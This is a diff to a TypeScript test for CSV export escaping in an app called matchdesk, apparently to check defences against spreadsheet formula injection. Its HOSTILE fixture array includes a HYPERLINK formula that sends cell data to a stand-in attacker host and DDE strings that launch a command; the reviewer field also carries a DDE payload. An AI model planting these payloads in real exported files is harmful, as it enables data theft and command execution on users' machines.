@@ -8,13 +8,14 @@ import { readCsv } from '../../electron/services/banks/csv';
 import { auditExport } from '../../electron/cli/commands/audit';
 import { csvCell } from '../../electron/services/export/csv-cell';
 import { tempDir } from '../helpers/temp-dir';
+import { localDispatch } from '../helpers/local-api';
 
 const HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];
 const temp = tempDir('matchdesk-csv-');
 let services: Services;
 
 async function call<T = unknown>(name: string, input: unknown = {}): Promise<T> {
-  const r = await services.dispatch(name, input);
+  const r = await localDispatch(services)(name, input);
   if (!r.ok) throw new Error(`${name}: ${r.error.code} ${r.error.message}`);
   return r.value as T;
 }
@@ -31,7 +32,6 @@ beforeAll(() => {
     transport: 'http',
     secrets: new FileSecretStore(join(temp.dir, 'secrets.json'), plainCodec),
     reviewer: '=cmd|"/C calc"!A0',
-    checkOutputs: true,
     startDispatcher: false,
     resumeMatrix: false,
   });
